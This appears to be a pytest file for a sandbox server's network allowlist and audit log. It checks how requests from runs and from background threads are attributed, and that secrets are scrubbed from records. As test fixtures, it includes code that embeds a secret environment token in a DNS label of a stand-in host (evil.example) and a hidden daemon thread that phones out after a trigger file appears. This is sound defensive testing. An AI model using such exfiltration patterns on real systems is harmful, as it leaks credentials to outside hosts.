# SPDX-License-Identifier: Apache-2.0
"""Whose traffic it was, in results and in the audit: what a run has sent is its own, what was sent while nothing ran is told at the end of the session, and no secret is
told anywhere."""
from conftest import wait_until
from internet import CLIENT, internet, net_server  # noqa: F401

GUARD_MODE = "off"
POLICY = {"network_mode": "allowlist", "network_allow": ["http://a.example.com"]}
LATER = """
import os, time
def later():
    while not os.path.exists('/workspace/go'): time.sleep(0.01)
    get('http://between.evil.example/')
threading.Thread(target=later, daemon=True).start()
"""


def hosts(network):
    return [(row["host"], row["decision"], row["requests"]) for row in network["hosts"]]


def records(server, session, action):
    return [each for each in server.get(f"/v1/audit?session={session}").expect(200).json["records"] if each["action"] == action]


def test_runs_and_the_rest(internet, net_server):
    internet.site("a.example.com", tls=False)
    session = net_server.session(policy=POLICY)
    first = net_server.run(CLIENT + LATER + "report(get('http://a.example.com/'), get('http://first.evil.example/'))", session)["result"]
    assert hosts(first["network"]) == [("a.example.com", "allowed", 1), ("first.evil.example", "no-rule", 1)], first["network"]
    net_server.put(f"/v1/sessions/{session}/files/go").expect(201)
    path = f"/v1/sessions/{session}/network"
    assert wait_until(lambda: net_server.get(path).json["used"]["requests"] == 3, 20), net_server.get(path).json
    second = net_server.run("print(1)", session)["result"]
    assert hosts(second["network"]) == [] and second["network"]["requests"] == 0, second["network"]
    failed = net_server.run("get('http://a.example.com/')\nget('http://last.evil.example/')\nraise ValueError()", session)["result"]
    assert hosts(failed["network"]) == [("a.example.com", "allowed", 1), ("last.evil.example", "no-rule", 1)], failed["network"]
    assert failed["verdict"]["message"].endswith("1 request was refused by the network policy: last.evil.example:80 (no-rule)."), failed["verdict"]
    net_server.delete(f"/v1/sessions/{session}").expect(204)
    runs = {each["run"]: each for each in records(net_server, session, "run")}
    assert [hosts(each["network"]) for each in runs.values() if "network" in each] == [hosts(failed["network"]), hosts(first["network"])], runs  # the newest first
    assert sum("network" not in each for each in runs.values()) == 1, runs  # the one that has sent nothing
    (end,) = records(net_server, session, "session.end")
    assert hosts(end["network"]) == [("between.evil.example", "no-rule", 1)] and end["end"] == "deleted", end


def test_no_secret_is_told(net_server):
    """As a name it has lost its capitals; whole and in one label it is found all the same."""
    session = net_server.session(policy=POLICY, secrets={"TOKEN": "Xyzzy4Plugh9Plover"})
    result = net_server.run(CLIENT + "import os\nget('http://' + os.environ['TOKEN'] + '.evil.example/')", session)["result"]
    shown = net_server.get(f"/v1/sessions/{session}/network").body
    net_server.delete(f"/v1/sessions/{session}").expect(204)
    audit = net_server.get(f"/v1/audit?session={session}").body
    assert hosts(result["network"]) == [("[scrubbed:TOKEN].evil.example", "no-rule", 1)], result["network"]
    for text in (shown, audit):
        assert b"[scrubbed:TOKEN].evil.example" in text and b"xyzzy4plugh9plover" not in text.lower(), text


def test_death_without_a_deletion(net_server):
    """A session that ends by itself has its record, too."""
    session = net_server.session(policy=POLICY)
    net_server.run(CLIENT + LATER, session)
    net_server.put(f"/v1/sessions/{session}/files/go").expect(201)
    assert wait_until(lambda: net_server.get(f"/v1/sessions/{session}/network").json["used"]["requests"] == 1, 20)
    net_server.patch(f"/v1/sessions/{session}", {"max_lifetime": "1s"}).expect(200)
    assert wait_until(lambda: records(net_server, session, "session.end"), 30)
    (end,) = records(net_server, session, "session.end")
    assert end["end"] == "expired" and hosts(end["network"]) == [("between.evil.example", "no-rule", 1)], end
